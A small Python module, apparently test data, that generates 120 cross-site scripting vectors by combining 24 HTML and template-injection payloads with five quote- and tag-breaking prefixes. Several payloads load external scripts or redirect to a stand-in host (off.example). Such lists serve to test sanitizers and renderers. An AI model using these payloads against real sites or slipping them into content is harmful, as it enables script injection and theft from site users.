"""A hundred and twenty ways to have a page run what somebody typed (T19): each payload behind each way out."""

from __future__ import annotations

from itertools import product

_PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//off.example/x.js></script>",
    "<img src=x onerror=alert(2)>",
    "<img src=//off.example/p.png>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    "<svg><animate onbegin=alert(5) attributeName=x>",
    "<iframe src=javascript:alert(6)></iframe>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<a href=javascript:alert(8) autofocus onfocus=alert(8)>x</a>",
    "<input autofocus onfocus=alert(9)>",
    "<details open ontoggle=alert(10)>",
    "<body onload=alert(11)>",
    "<video src=x onerror=alert(12)>",
    "<audio src=//off.example/a.mp3 autoplay>",
    "<object data=//off.example/o.swf></object>",
    "<embed src=//off.example/e.swf>",
    "<base href=//off.example/>",
    "<meta http-equiv=refresh content=0;url=//off.example/>",
    "<link rel=stylesheet href=//off.example/s.css>",
    "<style>@import '//off.example/s.css';</style>",
    "<math><mi xlink:href=javascript:alert(13)>x</mi></math>",
    "<form action=//off.example/><button autofocus onfocus=alert(14)>x</form>",
    "{{ constructor.constructor('alert(15)')() }}",
)
_WAYS_OUT = ("", '">', "'>", "</textarea></title></select>", '" autofocus onfocus="alert(16)" x="')

VECTORS = tuple(way + payload for payload, way in product(_PAYLOADS, _WAYS_OUT))


def some(turn: int, *, size: int = 6) -> str:
    """The vectors of one turn, joined; twenty turns give all of them."""
    first = turn * size % len(VECTORS)
    return " ".join((VECTORS * 2)[first : first + size])
